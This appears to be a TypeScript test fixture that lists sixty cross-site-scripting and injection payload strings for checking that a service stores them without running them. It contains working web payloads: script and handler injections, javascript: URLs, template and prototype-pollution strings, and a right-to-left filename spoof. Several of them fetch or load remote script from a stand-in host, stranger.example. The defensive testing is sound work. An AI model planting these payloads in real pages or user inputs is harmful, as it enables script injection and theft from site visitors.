/** The origin that a payload calls if it runs. It does not exist. */
const HOME = 'https://stranger.example';

/** The code of a payload: it sets a mark that tests check, opens a dialog and sends a request. */
const RUN = `window.ran=1;alert(1);fetch('${HOME}/')`;

/** Sixty texts that run code or load something if a page takes them for markup. The service stores all of them. */
export const payloads: readonly string[] = [
  // Elements
  `<script>${RUN}</script>`,
  `<ScRiPt>${RUN}</sCrIpT>`,
  `<script src="${HOME}/a.js"></script>`,
  `<script type="module">import '${HOME}/b.js'</script>`,
  `<scr<script>ipt>${RUN}</scr</script>ipt>`,
  `"><script>${RUN}</script>`,
  `'></textarea><script>${RUN}</script>`,
  `</title></style></script><script>${RUN}</script>`,
  `<!--<img src="--><img src=x onerror=window.ran=1>`,
  `<noscript><p title="</noscript><img src=x onerror=window.ran=1>">`,
  `<template><script>${RUN}</script></template>`,
  `<base href="${HOME}/">`,
  `<meta http-equiv="refresh" content="0;url=${HOME}/">`,
  `<link rel="stylesheet" href="${HOME}/a.css">`,
  `<style>@import '${HOME}/b.css';body{display:none}</style>`,
  `<iframe src="javascript:parent.ran=1"></iframe>`,
  `<iframe srcdoc="<script>parent.ran=1</script>"></iframe>`,
  `<object data="javascript:window.ran=1"></object>`,
  `<embed src="data:text/html,<script>${RUN}</script>">`,
  `<form action="${HOME}/"><button formaction="javascript:window.ran=1">Send</button></form>`,
  `<a href="javascript:window.ran=1">Click me</a>`,
  `<a href="${HOME}/" target="_blank">Click me</a>`,
  // Handlers
  `<img src=x onerror="${RUN}">`,
  `<img src=x onerror=window.ran=1//`,
  `<IMG SRC=x ONERROR=&#119;indow.ran=1>`,
  `<img src="${HOME}/a.png">`,
  `<img srcset="${HOME}/b.png 1x">`,
  `<body onload="${RUN}">`,
  `<svg onload="${RUN}">`,
  `<svg><script>${RUN}</script></svg>`,
  `<svg><animate onbegin=window.ran=1 attributeName=x dur=1s>`,
  `<svg><a xlink:href="javascript:window.ran=1"><text y=9>Click me</text></a></svg>`,
  `<svg><use href="${HOME}/a.svg#x"></use></svg>`,
  `<math><mtext><table><mglyph><style><img src=x onerror=window.ran=1>`,
  `<details open ontoggle=window.ran=1>`,
  `<input autofocus onfocus=window.ran=1>`,
  `<video><source onerror=window.ran=1></video>`,
  `<audio src="${HOME}/a.mp3" autoplay>`,
  `<marquee onstart=window.ran=1>`,
  `<div style="background:url(${HOME}/c.png)">`,
  `<p onpointerenter=window.ran=1 style="position:fixed;inset:0">`,
  `x" onmouseover="window.ran=1" data-x="`,
  `x' onfocus='window.ran=1' autofocus tabindex='1`,
  // Addresses
  `javascript:window.ran=1`,
  `JaVaScRiPt:window.ran=1`,
  `java\tscript:window.ran=1`,
  `javascript://example.com/%0Awindow.ran=1`,
  `data:text/html,<script>${RUN}</script>`,
  `vbscript:msgbox(1)`,
  `blob:${HOME}/0a0a0a0a`,
  `[Click me](javascript:window.ran=1)`,
  `![picture](${HOME}/d.png)`,
  `//stranger.example/a.js`,
  // Templates, and names with a meaning in JavaScript
  '{{constructor.constructor("window.ran=1")()}}',
  '${window.ran=1}',
  '<%= window.ran=1 %>',
  '{"__proto__":{"ran":1},"type":"script","props":{"dangerouslySetInnerHTML":{"__html":"<img src=x onerror=window.ran=1>"}}}',
  '__proto__',
  // Entities and directions
  '&lt;script&gt;window.ran=1&lt;/script&gt; &#x3C;b&#x3E;',
  '\u202Etxt.exe\u202C <b>\u200Bbold\u200D</b>',
];
